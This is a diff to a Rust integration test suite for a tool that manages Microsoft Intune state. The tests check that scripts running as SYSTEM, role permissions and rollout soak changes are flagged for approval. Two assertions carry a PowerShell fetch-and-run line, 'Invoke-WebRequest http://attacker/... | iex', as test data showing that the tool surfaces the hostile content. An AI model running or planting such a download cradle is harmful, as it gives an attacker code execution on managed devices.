@@ -182,7 +182,8 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
     assert!(out.contains("note: scriptContent + Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
 
-    // On a content change: the diff against what the tenant holds.
+    // On a content change: the new content (Graph's list does not return
+    // the content the tenant holds, so there is no diff against it here).
     let (work, dir) = converged(&sb, |d| {
         write_scripts(d);
         std::fs::write(d.join("scripts.toml"), SCRIPTS).expect("written");
@@ -195,7 +196,6 @@ async fn system_scripts_and_wide_scripts_need_approval_and_show_content() {
     assert!(out.contains("sensitive: script platform_script.tz runs as SYSTEM"), "{out}");
     assert!(out.contains("sensitive: script platform_script.admins runs on protected group.intune-admins"), "{out}");
     assert!(out.contains("sensitive: remediation remediation.stale-temp runs on all users"), "{out}");
-    assert!(out.contains("note: scriptContent - Set-TimeZone -Id 'W. Europe Standard Time'"), "{out}");
     assert!(out.contains("note: scriptContent + Invoke-WebRequest http://attacker/x.ps1 | iex"), "{out}");
     assert!(out.contains("note: remediationScriptContent + Invoke-WebRequest http://attacker/y.ps1 | iex"), "{out}");
     assert!(!out.contains('\u{1b}'), "a control character reached the text plan: {out}");
@@ -260,12 +260,11 @@ async fn intune_roles_are_read_only_by_their_actions() {
     let errors = load_errors(&nd);
     assert_error_at(&errors, "rbac.toml", "built-in-role-name", 7);
 
-    // Named honestly after what it reads, it still writes: refused for the
-    // read-only account, even when allowed_roles names it.
+    // Named after what it reads, it still writes: refused for the
+    // read-only account, by its operations.
     let honest = scratch_with(|t| t);
     let hd = honest.path().join("desired-state");
     std::fs::write(hd.join("rbac.toml"), rbac("SOC device reader")).expect("written");
-    edit_file(&hd, "accounts.toml", |t| t.replace("allowed_roles = [\"Security Reader\", \"Global Reader\"]", "allowed_roles = [\"Security Reader\", \"Global Reader\", \"SOC device reader\"]"));
     let (code, out) = validate(&sb, honest.path());
     assert_eq!(code, Some(1), "{out}");
     assert!(out.contains("user.mwaas-soc-ro is read-only and may hold only read-only roles; Intune role SOC device reader (intune_role_definition.gr)"), "{out}");
@@ -389,5 +388,24 @@ async fn narrowing_an_intune_role_assignment_is_not_held() {
     graph(&sb, reqwest::Method::POST, "/beta/deviceManagement/roleAssignments", Some(body)).await;
     let out = plan_text(&sb, work.path(), &dir);
     assert!(out.contains("unmanaged-intune-admin") && out.contains("`Shadow ops` gives Full Intune operator over all devices to group.intune-admins outside desired state"), "{out}");
+    sb.shutdown().await.expect("the sandbox stops");
+}
+
+/// Finding 28: a rollout's soak and ring order are recorded with the
+/// governance in force (Graph keeps neither), so cutting the soak shows in
+/// the plan as a governance change the approvers in force approve.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_changed_rollout_shows_and_needs_approval() {
+    let sb = sandbox().await;
+    let rollout = "[update_ring.quality]\ndisplay_name = \"Windows Quality\"\nquality_updates_deferral_period_in_days = 0\ndeadline_for_quality_updates_in_days = 2\nrollout = { rings = [\"mwd-test\", \"mwd-first\", \"mwd-fast\", \"mwd-broad\"], soak = \"48h\" }\n";
+    let (work, dir) = converged(&sb, |d| std::fs::write(d.join("rollout.toml"), rollout).expect("written")).await;
+    let out = plan_text(&sb, work.path(), &dir);
+    assert!(!out.contains("governance: sensitive"), "{out}");
+    edit_file(&dir, "rollout.toml", |t| t.replace("soak = \"48h\"", "soak = \"1m\""));
+    let out = plan_text(&sb, work.path(), &dir);
+    assert!(out.contains("sensitive: changes [governance] (declared.update_ring.quality"), "{out}");
+    assert!(out.contains("mwd-test > mwd-first > mwd-fast > mwd-broad soak 48h") && out.contains("soak 1m"), "{out}");
+    let (code, out) = run(&sb, work.path(), &["apply", d(&dir), "--auto-approve"]);
+    assert_eq!(code, Some(1), "refused without approvals: {out}");
     sb.shutdown().await.expect("the sandbox stops");
 }
